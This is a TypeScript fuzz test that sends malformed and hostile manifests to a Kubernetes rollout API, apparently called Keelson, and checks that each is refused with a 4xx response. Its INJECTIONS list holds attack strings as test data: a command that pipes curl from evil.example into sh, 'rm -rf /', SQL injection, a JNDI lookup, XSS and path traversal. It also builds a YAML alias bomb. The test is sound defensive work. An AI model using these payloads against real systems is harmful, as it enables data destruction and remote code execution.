/* eslint-disable @typescript-eslint/no-explicit-any -- manifests are mutated field by field */
import fc from 'fast-check';
import { fakeNode } from '../../deploy/dev/nodes';
import { rolloutFromBody } from '../../api/manifest-body';
import { caller, type Answer } from '../api/http';
import { eventually, startTestKeelson, type TestKeelson } from '../api/stack';
import { kubeClients } from '../../harness/kube';

// Property-based fuzzing of POST /v1/rollouts with invalid and hostile manifests: wrong types, huge strings, deep
// nesting, odd unicode, injection attempts in names, images, versions and env names. Every one must be answered
// 4xx with a clear message, start no workflow, and leave the API and the worker working.

let k: TestKeelson;
const call = caller(() => k);
const { core } = kubeClients();
const node = `fuzz-${Date.now().toString(36)}`;

function base(): Record<string, any> {
  return {
    apiVersion: 'skyhook.nvidia.com/v1alpha1',
    kind: 'Skyhook',
    metadata: { name: 'fuzz-ok' },
    spec: {
      nodeSelectors: { matchLabels: { 'kubernetes.io/hostname': node } },
      interruptionBudget: { percent: 100 },
      packages: {
        tools: {
          version: '1.0.0',
          image: 'registry.example/keelson/tools',
          env: [{ name: 'KEELSON_SIM_SECONDS', value: '1' }],
        },
      },
    },
  };
}

const INJECTIONS = [
  '$(rm -rf /)',
  '`reboot`',
  '; curl http://evil.example | sh',
  "' OR 1=1 --",
  '"; DROP TABLE rollouts; --',
  '../../../etc/passwd',
  '{{7*7}}',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  'a\nkind: Pod',
  'x\u0000y',
  '__proto__',
  'constructor',
  'name=value',
];
// Each hostile string carries at least one character no Kubernetes name, image, version or env name allows.
const odd = fc
  .string({ unit: 'binary', minLength: 0, maxLength: 40 })
  .chain((s) =>
    fc.constantFrom('\u202e', '\u200b', '\u0007', 'é', '💥', '=', '\n', '\ud800').map((c) => `${s}${c}${s}`),
  );
const huge = fc.integer({ min: 300, max: 60_000 }).map((n) => 'A'.repeat(n) + '=');
const hostileString = fc.oneof(fc.constantFrom(...INJECTIONS.filter((s) => /[^a-z0-9.-]/.test(s))), odd, huge);
// Env names may hold any printable ASCII but '=' (Kubernetes 1.34+), so `$(rm -rf /)` is a legal, inert name there.
const hostileEnvName = fc.oneof(
  fc.constantFrom(...INJECTIONS.filter((s) => /[^\x20-\x3c\x3e-\x7e]/.test(s))),
  odd,
  huge,
);
const wrongType = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.string(), { minLength: 1, maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.integer(), { minKeys: 1, maxKeys: 3 }),
);
const deep = fc.integer({ min: 50, max: 3000 }).map((depth) => {
  let v: unknown = 'x';
  for (let i = 0; i < depth; i++) v = i % 2 ? [v] : { a: v };
  return v;
});

type Mutation = (m: Record<string, any>, v: unknown) => void;
const pkg = (m: Record<string, any>) => m.spec.packages.tools;
// Fields that must reject a hostile string, and the setter for each.
const stringTargets: Record<string, Mutation> = {
  'metadata.name': (m, v) => (m.metadata.name = v),
  'package key': (m, v) => (m.spec.packages = { [String(v)]: pkg(m) }),
  image: (m, v) => (pkg(m).image = v),
  version: (m, v) => (pkg(m).version = v),
  'env name': (m, v) => (pkg(m).env = [{ name: v, value: '1' }]),
  kind: (m, v) => (m.kind = v),
  apiVersion: (m, v) => (m.apiVersion = v),
};
// Fields whose value must be an object, array, string or number of a given shape: any wrong type is refused.
// (Not the package key: a JSON key is always a string, and String(false) is a fine package name.)
const typedStringTargets = Object.fromEntries(Object.entries(stringTargets).filter(([k]) => k !== 'package key'));
// Optional spec fields: null there means the field is absent (a required one written as null is still refused).
const NULL_IS_ABSENT = new Set(['packages', 'package', 'env', 'interruptionBudget', 'nodeSelectors', 'interrupt']);
const typedTargets: Record<string, Mutation> = {
  ...typedStringTargets,
  spec: (m, v) => (m.spec = v),
  metadata: (m, v) => (m.metadata = v),
  packages: (m, v) => (m.spec.packages = v),
  package: (m, v) => (m.spec.packages.tools = v),
  env: (m, v) => (pkg(m).env = v),
  interruptionBudget: (m, v) => (m.spec.interruptionBudget = v),
  nodeSelectors: (m, v) => (m.spec.nodeSelectors = v),
  interrupt: (m, v) => (pkg(m).interrupt = v),
};

async function workflows(): Promise<number> {
  const { count } = await k.temporal.workflow.count(`TaskQueue="${k.taskQueue}"`);
  return count;
}

let failures: string[] = [];
function refused(r: Answer, what: string): boolean {
  const ok =
    r.status >= 400 &&
    r.status < 500 &&
    typeof r.body.error === 'string' &&
    typeof r.body.message === 'string' &&
    r.body.message.length > 0 &&
    r.body.message.length <= 4096;
  if (!ok) failures.push(`${what}: ${r.status} ${r.text.slice(0, 300)} (message length ${r.body.message?.length})`);
  return ok;
}

beforeAll(async () => {
  k = await startTestKeelson('fuzz');
  const b = fakeNode(0);
  await core.createNode({
    body: {
      ...b,
      metadata: { ...b.metadata, name: node, labels: { ...b.metadata!.labels, 'kubernetes.io/hostname': node } },
    },
  });
}, 120_000);

afterAll(async () => {
  await k?.stop();
  await core.deleteNode({ name: node }).catch(() => undefined);
});

let before = 0;

test('the unchanged base manifest is valid (so every refusal below is due to the mutation)', async () => {
  before = await workflows();
  // Not started here: checked with the parser the API uses (the last test starts it for real).
  expect(rolloutFromBody(base()).name).toBe('fuzz-ok');
});

test('hostile strings in names, images, versions, env names, kind: always 4xx with a clear message', async () => {
  failures = [];
  await fc.check(
    fc.asyncProperty(
      fc
        .constantFrom(...Object.keys(stringTargets))
        .chain((t) => (t === 'env name' ? hostileEnvName : hostileString).map((v) => [t, v] as const)),
      async ([target, value]) => {
        const m = base();
        stringTargets[target]!(m, value);
        return refused(await call('POST', '/v1/rollouts', m), `${target}=${JSON.stringify(value).slice(0, 80)}`);
      },
    ),
    { numRuns: 250 },
  );
  expect(failures.slice(0, 5)).toEqual([]);
}, 180_000);

test('wrong types and deep nesting anywhere in the manifest: always 4xx with a clear message', async () => {
  failures = [];
  await fc.check(
    fc.asyncProperty(
      fc.constantFrom(...Object.keys(typedTargets)),
      fc.oneof(wrongType, deep),
      async (target, value) => {
        // An optional spec field written as null is absent, as the API server drops it from a Skyhook resource
        // (docs/manifests.md, "Parity with Skyhook and NodeWright"): `packages: null` is no packages, `env: null` no env. Not a wrong type.
        // The body is JSON: a NaN or an infinite double goes as null too.
        fc.pre(!(JSON.stringify(value) === 'null' && NULL_IS_ABSENT.has(target)));
        const m = base();
        typedTargets[target]!(m, value);
        return refused(await call('POST', '/v1/rollouts', m), `${target}=${JSON.stringify(value).slice(0, 80)}`);
      },
    ),
    { numRuns: 250 },
  );
  expect(failures.slice(0, 5)).toEqual([]);
}, 180_000);

test('arbitrary bodies (JSON values, YAML text, alias bombs, bad content types): always 4xx', async () => {
  failures = [];
  const bomb = [
    'a: &a ["x","x","x","x","x","x","x","x","x"]',
    ...Array.from(
      { length: 9 },
      (_, i) =>
        `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)}]`,
    ),
  ].join('\n');
  expect(refused(await call('POST', '/v1/rollouts', bomb, 'application/yaml'), 'alias bomb')).toBe(true);
  await fc.check(
    fc.asyncProperty(
      fc.oneof(
        fc.jsonValue().map((v) => ({ body: JSON.stringify(v), type: 'application/json' })),
        fc.string({ unit: 'binary', maxLength: 300 }).map((s) => ({ body: s, type: 'application/yaml' })),
        fc.string({ maxLength: 100 }).map((s) => ({ body: s, type: 'text/plain' })),
      ),
      async ({ body, type }) =>
        refused(await call('POST', '/v1/rollouts', body, type), `${type}: ${body.slice(0, 80)}`),
    ),
    { numRuns: 250 },
  );
  expect(failures.slice(0, 5)).toEqual([]);
}, 180_000);

test('afterwards: no workflow was started, /healthz is ok, and a valid rollout still runs to completion', async () => {
  expect(await workflows()).toBe(before);
  const health = await call('GET', '/healthz');
  expect(health.status).toBe(200);
  expect(health.body).toEqual({ status: 'ok', temporal: 'ok' });
  const name = `fuzz-ok-${Date.now().toString(36)}`;
  const started = await call('POST', '/v1/rollouts', { ...base(), metadata: { name } });
  expect(started.status).toBe(201);
  const status = await eventually(async () => {
    const s = await call('GET', `/v1/rollouts/${name}`);
    if (s.body.status !== 'complete') throw new Error(`status ${s.body.status}`);
    return s.body;
  }, 90_000);
  expect(status.status).toBe('complete');
}, 120_000);
